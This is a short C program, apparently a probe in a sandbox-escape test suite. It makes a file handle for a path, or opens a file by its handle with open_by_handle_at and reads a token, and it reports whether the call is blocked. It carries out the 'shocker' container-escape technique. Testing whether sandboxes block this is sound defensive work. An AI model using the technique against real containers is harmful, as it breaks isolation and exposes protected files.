/*
 * sec-handle make PATH; sec-handle open DIR TYPE HEX: a file handle names an inode, so that a file
 * is opened without its path: open_by_handle_at(2) wants only some directory of the same file
 * system. The handle is made outside; guessing one is a matter of trying inode numbers, which is
 * how "shocker" got out of early containers.
 */
#define _GNU_SOURCE
#include "attack.h"

static int make(const char *path)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	int mount_id;

	if (!handle)
		return 1;
	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount_id, 0) < 0)
		return blocked("name_to_handle_at");
	printf("%d ", handle->handle_type);
	for (unsigned int i = 0; i < handle->handle_bytes; i++)
		printf("%02x", handle->f_handle[i]);
	puts("");
	return 0;
}

static int open_handle(const char *directory, const char *type, const char *hex)
{
	struct file_handle *handle = calloc(1, sizeof(*handle) + MAX_HANDLE_SZ);
	char path[64];
	int place, fd;

	if (!handle || strlen(hex) > 2 * MAX_HANDLE_SZ)
		return 1;
	handle->handle_type = atoi(type);
	handle->handle_bytes = strlen(hex) / 2;
	for (unsigned int i = 0; i < handle->handle_bytes; i++)
		sscanf(hex + 2 * i, "%2hhx", &handle->f_handle[i]);
	place = open(directory, O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(place, handle, O_RDONLY);
	if (fd < 0)
		return blocked("open_by_handle_at");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return read_token(path);
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "make") == 0)
		return make(argv[2]);
	started();
	return argc == 5 ? open_handle(argv[2], argv[3], argv[4]) : 2;
}
